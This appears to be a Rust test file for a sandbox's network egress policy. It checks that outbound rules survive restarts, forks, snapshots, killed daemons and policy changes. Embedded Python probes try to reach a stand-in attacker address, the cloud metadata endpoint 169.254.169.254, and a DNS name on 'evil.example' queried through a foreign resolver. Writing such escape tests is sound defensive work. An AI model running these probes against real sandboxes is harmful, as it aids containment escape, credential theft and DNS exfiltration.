//! The policy on every way that a sandbox's life can take, and while it changes.

use super::{ALLOWED, Attempt, Policy, Step};

/// Whether what no rule names can be reached, by address and by name.
const LEAVE: &str = "reached('alone.example', EVIL4, EVIL6)";

/// The policy after one step of its life.
macro_rules! keep {
    ($name:literal, $($step:ident),+) => {
        Attempt::new($name, "policy", ALLOWED, LEAVE).after(&[$(Step::$step),+])
    };
}

/// What was begun under one policy, and goes on after a step.
macro_rules! hold {
    ($name:literal, $defence:literal, $script:expr, $($step:expr),+) => {
        Attempt::new($name, $defence, ALLOWED, $script).during(&[$($step),+])
    };
}

const TIGHT: Step = Step::Change(&["allow www.allowed.example"]);
/// As it was before.
const WIDE: Step = Step::Change(&["allow allowed.example", "allow *.allowed.example"]);
const DENIED: Step = Step::Change(&["allow *.allowed.example", "deny streams.allowed.example"]);

/// Bytes go back and forth for a while after the change: the cut may take a moment.
const GO_ON: &str = "
with connect('streams.allowed.example', 7) as stream:
    stream.sendall(b'before\\n')
    stream.recv(100)
    ready()
    limit = time.monotonic() + 3
    while time.monotonic() < limit:
        stream.sendall(b'after\\n')
        if stream.recv(100) == b'':
            verdict(False)
        time.sleep(0.05)
    verdict(True)";

/// Nothing but what comes in.
const PULL: &str = "
with connect('streams.allowed.example', 19) as stream:
    stream.recv(100)
    ready()
    limit = time.monotonic() + 3
    while time.monotonic() < limit:
        if stream.recv(1 << 20) == b'':
            verdict(False)
    verdict(True)";

/// The address that stood for a name.
const REMEMBER: &str = "
found = [address[0] for *_, address in socket.getaddrinfo('raw.allowed.example', 80)]
ready()
verdict(any(where(address, data=get('raw.allowed.example')) for address in found))";

/// The address of a name that must not come to stand for another.
const INHERIT: &str = "
found = {address[0] for *_, address in socket.getaddrinfo('www.allowed.example', 80)}
ready()
for number in range(200):
    socket.getaddrinfo(f'inherit{number}.tunnel.allowed.example', 80)
socket.getaddrinfo('raw.allowed.example', 80)
verdict(any(where(address, data=get('raw.allowed.example')) for address in found))";

/// All the while that nobody serves.
const GAP: &str = "
ready()
limit = time.monotonic() + 3
while time.monotonic() < limit:
    if where(EVIL4) or where('alone.example') or where('169.254.169.254'):
        verdict(True)
verdict(False)";

/// Names go out to whoever answers.
const GAP_IN_NAMES: &str = "
ready()
limit = time.monotonic() + 3
while time.monotonic() < limit:
    for server in (FOREIGN_RESOLVER4, resolver()):
        if MARK in ask('secret.evil.example', 16, server):
            verdict(True)
verdict(False)";

#[rustfmt::skip]
pub(crate) const ATTEMPTS: &[Attempt] = &[
    keep!("cannot_lose_the_policy_by_a_restart", Stop, Start),
    keep!("cannot_lose_the_policy_by_a_pause", Pause, Resume),
    keep!("cannot_lose_the_policy_by_a_fork", Fork),
    keep!("cannot_lose_the_policy_by_a_snapshot", Snapshot),
    keep!("cannot_lose_the_policy_by_the_pool", Pool),
    keep!("cannot_lose_the_policy_by_a_whole_restart", RestartAll),
    keep!("cannot_lose_the_policy_by_idleness", Idle),
    keep!("cannot_lose_the_policy_by_the_death_of_the_daemon", KillDaemon),
    keep!("cannot_lose_the_policy_by_the_death_of_the_network", KillNetwork),
    keep!("cannot_lose_the_policy_by_the_death_of_the_launcher", KillLauncher),
    keep!("cannot_lose_the_policy_by_the_death_of_the_keeper", KillKeeper),
    Attempt::new("cannot_lose_the_policy_by_a_change", "policy", ALLOWED, LEAVE)
        .after(&[Step::Change(&["deny *.allowed.example"]), WIDE]),
    Attempt::new("cannot_lose_the_policy_by_all_of_it", "policy", ALLOWED, LEAVE).after(&[
        Step::Idle, Step::Pool, Step::Stop, Step::Start, Step::KillNetwork, Step::KillDaemon,
        Step::KillLauncher, Step::KillKeeper, Step::Change(&["deny *.allowed.example"]), WIDE,
        Step::RestartAll, Step::Stop, Step::Start, Step::KillNetwork,
    ]),
    hold!("cannot_go_on_after_the_rule_is_gone", "cut", GO_ON, TIGHT),
    hold!("cannot_go_on_after_a_denial", "cut", GO_ON, DENIED),
    hold!("cannot_go_on_after_none", "cut", GO_ON, Step::Close),
    hold!("cannot_be_sent_to_after_the_rule_is_gone", "cut", PULL, TIGHT),
    hold!("cannot_use_an_address_after_the_rule_is_gone", "rules", REMEMBER, TIGHT),
    hold!("cannot_inherit_an_address_after_the_death_of_the_network", "rules,host", INHERIT,
        TIGHT, Step::KillNetwork),
    hold!("cannot_leave_while_the_network_is_dead", "network_namespace", GAP, Step::KillNetwork),
    hold!("cannot_leave_while_the_daemon_is_dead", "network_namespace", GAP, Step::KillDaemon),
    hold!("cannot_leave_while_the_launcher_is_dead", "network_namespace", GAP, Step::KillLauncher),
    hold!("cannot_look_up_while_the_network_is_dead", "network_namespace", GAP_IN_NAMES,
        Step::KillNetwork),
    Attempt::new("cannot_open_a_policy_of_none_by_a_restart", "network_namespace", Policy::None, LEAVE)
        .after(&[Step::Stop, Step::Start]),
];
